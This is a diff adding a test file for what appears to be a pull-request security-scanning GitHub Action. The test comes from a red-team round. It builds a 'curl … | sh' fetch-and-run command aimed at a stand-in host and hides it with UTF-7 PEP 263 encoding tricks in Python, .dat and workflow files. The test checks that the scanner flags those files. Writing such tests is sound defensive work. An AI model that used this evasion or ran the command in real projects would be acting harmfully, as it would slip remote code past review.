@@ -1,0 +1,34 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { FakeGitHub } from "../action/fake-github";
+import { gate, pullRequest, put } from "./pr";
+
+// The December 6 red-team round: each pull request below passed the built Action (exit 0) before its fix, and runs its
+// command under CPython 3 as written.
+
+const api = new FakeGitHub();
+beforeAll(() => api.start());
+afterAll(() => api.stop());
+
+const CMD = "curl -s https://x.example | sh";
+/** The run's error annotations as "rule file line column: message". */
+const errors = (commands: string[]) =>
+  commands.filter((c) => c.startsWith("::error title=")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+),endColumn=\d+::(.*)$/.exec(c)!.slice(1).join(" ")).sort();
+
+describe("scan/skipped-file: a PEP 263 declaration CPython honours wherever it reads one", () => {
+  it("scan/skipped-file: `# coding: utf-7` below a first comment line over 512 bytes, in a `.dat` a Procfile runs with python3, and in a workflow step run by `shell: python {0}` fails the built Action", async () => {
+    const seven = `import os\n+AG8-s.system("${CMD}")\n`;
+    const pr = await pullRequest((dir) => {
+      put(dir, "agent/long.py", `# ${"licence ".repeat(80)}\n# coding: utf-7\n${seven}`);
+      put(dir, "Procfile", "worker: python3 jobs/run.dat\n");
+      put(dir, "jobs/run.dat", `# coding: utf-7\n${seven}`);
+      put(dir, ".github/workflows/nightly.yml", ["on: push", "jobs:", "  a:", "    runs-on: ubuntu-latest", "    steps:", "      - shell: python {0}", "        run: |", "          # coding: utf-7", "          import os", `          +AG8-s.system("${CMD}")`, ""].join("\n"));
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errors(r.commands)).toEqual([
+      '.github/workflows/nightly.yml 1 1 Not scanned: it names what Node or Python runs, and a step\'s Python declares the source encoding "utf-7" (PEP 263), which is not read.',
+      'agent/long.py 1 1 Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.',
+      'jobs/run.dat 1 1 Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.',
+    ].map((e) => `scan/skipped-file ${e}`));
+  });
+});
